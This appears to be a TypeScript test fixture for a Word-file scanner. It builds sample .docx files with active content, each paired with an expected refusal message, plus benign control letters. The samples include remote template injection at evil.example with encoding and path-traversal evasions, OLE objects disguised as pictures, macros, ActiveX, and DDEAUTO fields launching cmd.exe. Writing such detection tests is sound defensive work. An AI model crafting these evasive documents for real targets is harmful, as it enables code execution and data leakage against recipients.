import { officeFile, relationships } from './archives.ts'
import { body, code, field, fieldOf, mark, rels, settings, word } from './word-parts.ts'

export type ActiveFile = [name: string, content: Buffer | Promise<Buffer>, what: RegExp]
export type OrdinaryFile = [name: string, content: Buffer | Promise<Buffer>]

const vml = 'application/vnd.openxmlformats-officedocument.vmlDrawing'
const ole = Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1')
const openXml = 'application/vnd.openxmlformats-officedocument'

/** Word files with active content, and the pattern of their refusal. */
export const activeWordFiles: Record<string, ActiveFile> = {
  'a Word file with a template on the web': [
    'a.docx',
    word(settings('https://evil.example/t.dotm')),
    /template from another location/,
  ],
  'a Word file with a template on somebody else\u2019s server': [
    'a.docx',
    word(settings('file:///\\\\evil.example\\t.dotm')),
    /template from another location/,
  ],
  'a Word file with a template behind the name of a disk': [
    'a.docx',
    word(settings('file:///C:/../\\\\evil.example\\t.dotm')),
    /template from another location/,
  ],
  'a Word file with a template behind escapes of the way up': [
    'a.docx',
    word(settings('file:///C:/%2e%2e/%5c%5cevil.example/t.dotm')),
    /template from another location/,
  ],
  'a Word file with a template above a disk': [
    'a.docx',
    word(settings('file:///C:/../t.dotm')),
    /template from another location/,
  ],
  'a Word file with a template on a server with two slashes': [
    'a.docx',
    word(settings('//evil.example/t.dotm')),
    /template from another location/,
  ],
  'a Word file whose template is elsewhere, but not said to be': [
    'a.docx',
    word({
      'word/_rels/settings.xml.rels': relationships(['attachedTemplate', 'https://evil.example/t.dotm']),
    }),
    /template from another location/,
  ],
  'a Word file whose relationships are written in UTF-16': [
    'a.docx',
    word({
      'word/_rels/settings.xml.rels': Buffer.from(
        `\uFEFF${settings('https://evil.example/t.dotm')['word/_rels/settings.xml.rels']}`,
        'utf16le',
      ),
    }),
    /template from another location/,
  ],
  'a Word file whose relationship is spelt in escapes': [
    'a.docx',
    word({
      'word/_rels/settings.xml.rels':
        "<r:Relationships><r:Relationship TargetMode='&#x45;xternal' Type='x/attachedTemplate' Target='&#104;ttp://evil.example/t'\n></r:Relationship></r:Relationships>",
    }),
    /template from another location/,
  ],
  'a Word file with entities of its own': [
    'a.docx',
    word({ 'word/_rels/x.rels': '<!DOCTYPE a [<!ENTITY b "External">]><Relationships/>' }),
    /cannot be read/,
  ],
  'a Word file in an encoding that hides its elements': [
    'a.docx',
    word({ 'word/document.xml': '<?xml version="1.0" encoding="utf-7"?><a>+ADw-w:altChunk/+AD4-</a>' }),
    /cannot be read/,
  ],
  'a Word file with a relationship part that is said to be a picture': [
    'a.docx',
    word(settings('https://evil.example/t.dotm'), { rels: 'image/png' }),
    /template from another location/,
  ],
  'a Word file with a picture from the web': [
    'a.docx',
    word(rels(['image', 'https://evil.example/pixel.png', 'External'])),
    /loaded from another location/,
  ],
  'a Word file with a picture on a server': [
    'a.docx',
    word(rels(['image', '\\\\evil.example\\a.png', 'External'])),
    /loaded from another location/,
  ],
  'a Word file with a page in a frame': [
    'a.docx',
    word(rels(['frame', 'https://evil.example', 'External'])),
    /loaded from another location/,
  ],
  'a Word file with a document that is taken in': [
    'a.docx',
    word({ ...rels(['aFChunk', 'a.html']), 'word/a.html': '<p>x</p>' }, { html: 'text/html' }),
    /loaded from another location/,
  ],
  'a Word file with an element for a document that is taken in': [
    'a.docx',
    word(body('<w:altChunk r:id="rId1"/>')),
    /loaded from another location/,
  ],
  'a Word file with mail merge': [
    'a.docx',
    word({
      'word/settings.xml':
        '<w:settings><w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge></w:settings>',
    }),
    /loaded from another location/,
  ],
  'a Word file with an embedded object': [
    'a.docx',
    word({ 'word/embeddings/oleObject1.bin': ole }, { bin: `${openXml}.oleObject` }),
    /an embedded object/,
  ],
  'a Word file with an embedded object elsewhere': [
    'a.docx',
    word({ ...rels(['oleObject', 'media/a.png']), 'word/media/a.png': 'x' }),
    /an embedded object/,
  ],
  'a Word file with an embedded object that is said to be a picture': [
    'a.docx',
    word({ 'word/media/a.png': ole }),
    /an embedded object/,
  ],
  'a Word file with an embedded object that is said to be a workbook': [
    'a.docx',
    word({ ...rels(['package', 'embeddings/a.xlsx']), 'word/embeddings/a.xlsx': ole }),
    /an embedded object/,
  ],
  'a Word file with an archive that is said to be a picture': [
    'a.docx',
    officeFile('xlsx').then((workbook) => word({ 'word/media/a.png': workbook })),
    /an embedded object/,
  ],
  'a Word file with a workbook that contains an object': [
    'a.docx',
    officeFile('xlsx', { 'xl/media/a.png': ole }).then((workbook) =>
      word({ ...rels(['package', 'embeddings/a.xlsx']), 'word/embeddings/a.xlsx': workbook }),
    ),
    /an embedded object/,
  ],
  'a Word file with a linked object': [
    'a.docx',
    word(rels(['oleObject', 'file:///C:\\x.xlsx', 'External'])),
    /an embedded object/,
  ],
  'a Word file with the element of an object': [
    'a.docx',
    word(body('<o:OLEObject ProgID="Package"/>')),
    /an embedded object/,
  ],
  'a Word file with a workbook that is none': [
    'a.docx',
    word({ 'word/embeddings/a.xlsx': 'MZ' }),
    /an embedded object/,
  ],
  'a Word file with a picture that is broken XML': [
    'a.docx',
    word({ 'word/media/a.png': '<w:settings><w:mailMerge' }),
    /cannot be read/,
  ],
  'a Word file with macros by their relationship': [
    'a.docx',
    word({ ...rels(['vbaProject', 'theme/a.xml']), 'word/theme/a.xml': '<a/>' }),
    /macros/,
  ],
  'a Word file with macros by their content type': [
    'a.docx',
    word({ 'word/theme/a.xml': '<a/>' }, { 'word/theme/a.xml': 'application/vnd.ms-office.vbaProject' }),
    /macros/,
  ],
  'a Word file with keys that start macros': [
    'a.docx',
    word({ 'word/a.xml': '<a/>' }, { 'word/a.xml': 'application/vnd.ms-word.keyMapCustomizations+xml' }),
    /macros/,
  ],
  'a Word file with a part of an unknown kind': [
    'a.docx',
    word({ 'word/a.dat': 'x' }, { dat: 'application/x-unknown' }),
    /unknown kind/,
  ],
  'a Word file with a part without a kind': ['a.docx', word({ 'word/tool.exe': 'MZ' }), /unknown kind/],
  'a Word file with ActiveX': ['a.docx', word({ 'word/activeX/activeX1.xml': '<a/>' }), /ActiveX/],
  'a Word file with ActiveX by its relationship': [
    'a.docx',
    word({ ...rels(['control', 'a.xml']), 'word/a.xml': '<a/>' }),
    /ActiveX/,
  ],
  'a Word file with a web extension': [
    'a.docx',
    word({ 'word/a.xml': '<a/>', '_rels/.rels': relationships(['webextensiontaskpanes', 'word/a.xml']) }),
    /unknown kind/,
  ],
  'a Word file with a picture in its drawing from the web': [
    'a.docx',
    word(body('<v:imagedata src="https://evil.example/a.png"/>')),
    /loaded from another location/,
  ],
  'a Word file with a field in pieces that starts a program': [
    'a.docx',
    word(field(' DD', 'EAUTO c:\\\\windows\\\\cmd.exe ')),
    /another program/,
  ],
  'a Word file with the code of a field and no field': [
    'a.docx',
    word(body(code(' DD') + code('E cmd'))),
    /another program/,
  ],
  'a Word file with a field that starts a program in another field': [
    'a.docx',
    word(field(' IF ', fieldOf(' DDE cmd '), ' = 1 ')),
    /another program/,
  ],
  'a Word file with a field whose name is computed': [
    'a.docx',
    word(field(fieldOf(' QUOTE 68 68 69 '), ' cmd ')),
    /a field that loads content or starts a program/,
  ],
  'a Word file with a field whose name is computed in part': [
    'a.docx',
    word(field(' PAGE', fieldOf(' QUOTE 68 '), ' cmd ')),
    /a field that loads content or starts a program/,
  ],
  'a Word file with a field whose name begins with a sign': [
    'a.docx',
    word(field('<w:sym w:char="F044"/>', 'PAGE ')),
    /a field that loads content or starts a program/,
  ],
  'a Word file with a field that has no end': [
    'a.docx',
    word(body(mark('begin') + code(' DDE cmd '))),
    /another program/,
  ],
  'a Word file with the field INCLUDEPICTURE': [
    'a.docx',
    word(field(' INCLUDEPICTURE "https://evil.example/a.png" ')),
    /a field that loads content or starts a program/,
  ],
  'a Word file with the field INCLUDETEXT': [
    'a.docx',
    word(field(' INCLUDETEXT "\\\\\\\\evil.example\\\\a.docx" ')),
    /a field that loads content or starts a program/,
  ],
  'a Word file with the field LINK': [
    'a.docx',
    word(field(' LINK Excel.Sheet.12 a.xlsx ')),
    /a field that loads content or starts a program/,
  ],
  'a Word file with the field Import': [
    'a.docx',
    word(field(' Import a.png ')),
    /a field that loads content or starts a program/,
  ],
  'a Word file with the field DATABASE': [
    'a.docx',
    word(field(' DATABASE x ')),
    /a field that loads content or starts a program/,
  ],
  'a Word file with a simple field that loads a picture': [
    'a.docx',
    word(body('<w:fldSimple w:instr=" INCLUDEPICTURE x "/>')),
    /a field that loads content or starts a program/,
  ],
}

/** Similar Word files without active content. */
export const ordinaryWordFiles: Record<string, OrdinaryFile> = {
  'a letter with links, fields and the template of its author': [
    'a.docx',
    word({
      ...rels(['hyperlink', 'https://www.nhs.uk/', 'External'], ['image', 'media/image1.png']),
      ...settings('file:///C:\\Users\\Jos\u00e9\\Custom%20Office%20Templates\\Letter.dotx'),
      ...body(
        fieldOf(' HYPERLINK "https://www.nhs.uk/" \\\\o "INCLUDEPICTURE" ') +
          fieldOf(' PA', 'GE \\\\* MERGEFORMAT ') +
          fieldOf(' IF ', fieldOf(' PAGE '), ' = 1 "DDE" ') +
          fieldOf(' = ', fieldOf(' PAGE '), ' - 1 '),
      ),
    }),
  ],
  'a letter with an Illustrator picture and comments': [
    'a.docx',
    word(
      {
        ...rels(['commentsExtended', 'commentsExtended.xml'], ['image', 'media/a.svg']),
        'word/media/a.svg':
          '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "a.dtd"><svg/>',
        'word/drawings/a.vml': '<xml><v:textbox><br>Words</v:textbox></xml>',
      },
      { svg: 'image/svg+xml', vml },
    ),
  ],
}
